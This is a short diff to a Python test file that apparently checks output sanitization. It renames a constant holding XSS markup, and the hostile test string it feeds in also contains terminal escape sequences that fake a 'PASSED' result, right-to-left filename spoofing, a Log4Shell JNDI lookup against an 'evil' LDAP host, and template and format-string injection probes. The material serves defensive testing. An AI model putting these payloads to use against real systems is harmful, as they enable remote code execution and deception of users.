@@ -10,10 +10,10 @@ from tests.corpus.world import World
 from tests.factories import message
 
 _UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
-_MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
+MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
 _HOSTILE = rf"""
 red = "\x1b[2J\x1b[31mPASSED\x1b]8;;http://evil\x07\x9b0m"
-text = red + "\u202etxt.exe\u2066" + "{_MARKUP}" + "${{jndi:ldap://evil}} {{0.__class__}} %n%s {{{{7*7}}}}"
+text = red + "\u202etxt.exe\u2066" + "{MARKUP}" + "${{jndi:ldap://evil}} {{0.__class__}} %n%s {{{{7*7}}}}"
 
 
 class Hostile(Exception):
@@ -21,7 +21,7 @@ class Hostile(Exception):
         return text
 
 
-Hostile.__name__ = "{_MARKUP}" + red
+Hostile.__name__ = "{MARKUP}" + red
 where_dali_wins = [text, text + "2"]
 raise Hostile()
 """
